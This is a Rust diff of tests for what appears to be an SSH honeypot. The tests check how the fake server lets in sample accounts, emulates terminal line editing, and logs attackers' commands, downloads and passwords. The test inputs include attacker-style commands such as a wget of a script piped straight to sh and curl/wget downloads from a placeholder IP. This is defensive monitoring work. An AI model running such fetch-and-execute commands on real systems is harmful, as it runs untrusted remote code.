@@ -14,7 +14,7 @@ fn begun(session: SshSession) -> Client {
 }
 
 /// A client that was let in as `root` and has a channel.
-fn inside() -> Client {
+pub(super) fn inside() -> Client {
     let mut client = begun(let_in());
     let answers = client.ask(&password("root", "toor"));
     assert_eq!((answers[0].as_slice(), answers[1][0]), (&[MSG_USERAUTH_SUCCESS][..], MSG_GLOBAL_REQUEST));
@@ -23,7 +23,7 @@ fn inside() -> Client {
 }
 
 /// Everything printed in the channel, complaints too; and the status, if it has ended.
-fn printed(answers: &[Vec<u8>]) -> (String, Option<u8>) {
+pub(super) fn printed(answers: &[Vec<u8>]) -> (String, Option<u8>) {
     let (mut text, mut status) = (Vec::new(), None);
     for payload in answers {
         match payload[0] {
@@ -36,7 +36,7 @@ fn printed(answers: &[Vec<u8>]) -> (String, Option<u8>) {
     (said(&text), status)
 }
 
-fn exec(command: &str) -> (Client, String, Option<u8>) {
+pub(super) fn exec(command: &str) -> (Client, String, Option<u8>) {
     let mut client = inside();
     let answers = client.ask(&channel_request("exec", |out| put_string(out, command.as_bytes())));
     let (text, status) = printed(&answers);
@@ -210,6 +210,13 @@ fn nobody_is_let_in_unless_the_operator_wants_it() {
 }
 
 #[test]
+fn an_account_that_nobody_can_log_in_to_is_never_let_in() {
+    let let_in =
+        |user: &str| begun(Ssh::of(&persona()).letting_in(1).session(7)).ask(&password(user, "a"))[0][0] == MSG_USERAUTH_SUCCESS;
+    assert_eq!(["root", "admin", "www-data", "sync", "nobody"].map(let_in), [true, true, false, false, false]);
+}
+
+#[test]
 fn a_command_is_told_and_answered_without_a_shell() {
     let (client, text, status) = exec("uname -s; nosuch; wget http://198.51.100.9/x.sh -O- | sh");
     assert!(text.starts_with("Linux\nbash: line 1: nosuch: command not found\n"), "{text}");
@@ -237,6 +244,94 @@ fn a_terminal_prompts_and_each_line_is_told() {
     assert_eq!(client.heard.reports.last().unwrap().0.fields["command"], "id; w");
     let (text, status) = printed(&client.ask(&data(b"exit\r")));
     assert_eq!((text.as_str(), status), ("exit\r\nlogout\r\n", Some(0)));
+}
+
+/// A terminal with a shell in it, behind its first prompt.
+fn terminal(user: &str) -> (Client, String) {
+    let mut client = begun(let_in());
+    client.ask(&password(user, "a"));
+    client.ask(&open_session());
+    client.ask(&channel_request("pty-req", |out| {
+        put_string(out, b"xterm");
+        out.extend_from_slice(&[0; 20]);
+    }));
+    let (greeting, _) = printed(&client.ask(&channel_request("shell", |_| {})));
+    (client, greeting.rsplit("\r\n").next().unwrap().to_string())
+}
+
+#[test]
+fn a_terminals_keys_edit_the_line() {
+    let (mut client, prompt) = terminal("root");
+    let mut typed = |keys: &[u8]| printed(&client.ask(&data(keys))).0;
+    assert_eq!(typed(b"whoamiX\x7f\r"), format!("whoamiX\x08\x1b[K\r\nroot\r\n{prompt}"));
+    assert_eq!(typed(b"\x1b[A\r"), format!("whoami\r\nroot\r\n{prompt}"));
+    assert_eq!(typed(b"nosuch\x15id -u\r"), format!("nosuch{}\x1b[Kid -u\r\n0\r\n{prompt}", "\x08".repeat(6)));
+    assert_eq!(typed(b"ls\t\x1b[D\x17\x1b[3~\x05\r"), format!("ls\x07\x08\x08\x1b[1P\x1b[K\r\n{prompt}"));
+    let recalled = typed(b"history\r");
+    assert!(
+        recalled.contains("  whoami\r\n")
+            && recalled.ends_with(&format!("  id -u\r\n   {}  history\r\n{prompt}", recalled.lines().count() - 2)),
+        "{recalled}"
+    );
+    let told: Vec<_> = client.heard.reports.iter().filter_map(|(found, _)| found.fields.get("command").cloned()).collect();
+    assert_eq!(told, ["whoami", "whoami", "id -u", "history"]);
+}
+
+#[test]
+fn what_reads_from_a_terminal_reads_until_its_end() {
+    let (mut client, prompt) = terminal("root");
+    let mut typed = |keys: &[u8]| printed(&client.ask(&data(keys))).0;
+    assert_eq!(typed(b"cat > /tmp/x\r"), "cat > /tmp/x\r\n");
+    assert_eq!(typed(b"wget http://198.51.100.9/y\rZ\x7f\r"), "wget http://198.51.100.9/y\r\nZ\x08 \x08\r\n");
+    assert_eq!(typed(b"\x04"), prompt);
+    assert_eq!(typed(b"cat\ra\r\x03"), format!("cat\r\na\r\na\r\n^C\r\n{prompt}"));
+    assert_eq!(typed(b"sh\rexit\rbash\r"), format!("sh\r\n# exit\r\n\r\n{prompt}bash\r\n{prompt}"));
+    assert_eq!(typed(b"\x04"), format!("exit\r\n{prompt}"));
+    assert_eq!(typed(b"passwd\r"), "passwd\r\nNew password: ");
+    assert_eq!(
+        typed(b"s3cret\rs3cret\r"),
+        format!("\r\nRetype new password: \r\npasswd: password updated successfully\r\n{prompt}")
+    );
+    let told =
+        |name: &str| client.heard.reports.iter().filter_map(|(found, _)| found.fields.get(name).cloned()).collect::<Vec<_>>();
+    assert_eq!(told("input"), ["wget http://198.51.100.9/y\\u{a}; \\u{a}"]);
+    assert_eq!((told("command").len(), told("new_password")), (4, vec!["s3cret".to_string()]));
+    let (mut other, prompt) = terminal("admin");
+    let asked = printed(&other.ask(&data(b"passwd\rold\ra\rb\r"))).0;
+    assert!(asked.starts_with("passwd\r\nChanging password for admin.\r\nCurrent password: \r\nNew password: "), "{asked}");
+    assert!(asked.ends_with(&format!("passwd: password unchanged\r\n{prompt}")), "{asked}");
+}
+
+#[test]
+fn what_reads_without_a_terminal_gets_the_rest() {
+    let (mut client, ..) = exec("sh");
+    client.ask(&data(b"cat > /tmp/x\nwget http://198.51.100.9/y\nid\n"));
+    let found = &client.heard.reports.last().unwrap().0.fields;
+    assert_eq!(
+        (found["command"].as_str(), found["input"].as_str()),
+        ("cat > /tmp/x", "wget http://198.51.100.9/y\\u{a}id\\u{a}")
+    );
+}
+
+/// Going to and fro on a long line costs no more than a terminal is shown.
+#[test]
+fn a_terminals_echo_is_bounded() {
+    let (mut client, _) = terminal("root");
+    client.ask(&data(&[b'x'; 5_000]));
+    let shown = printed(&client.ask(&data(&b"\x01\x05".repeat(10_000)))).0;
+    assert!(shown.len() <= 16 * 1_024, "{}", shown.len());
+}
+
+/// What was made safe once must not be made so again with each further line.
+#[test]
+fn several_lines_of_one_packet_are_told_as_they_were_said() {
+    let (mut client, ..) = exec("sh");
+    client.ask(&data(b"echo \xff\x01\nwget http://198.51.100.9/a\nid\ncurl http://198.51.100.9/b\n"));
+    let found = &client.heard.reports.last().unwrap().0.fields;
+    assert_eq!(found["command"], r"echo \u{dcff}\u{1}; wget http://198.51.100.9/a; id; curl http://198.51.100.9/b");
+    assert_eq!(found["download"], "http://198.51.100.9/a; http://198.51.100.9/b");
+    client.ask(&data(&b"uname -a\n".repeat(200)));
+    assert_eq!(client.heard.reports.last().unwrap().0.fields["commands"], "200");
 }
 
 #[test]
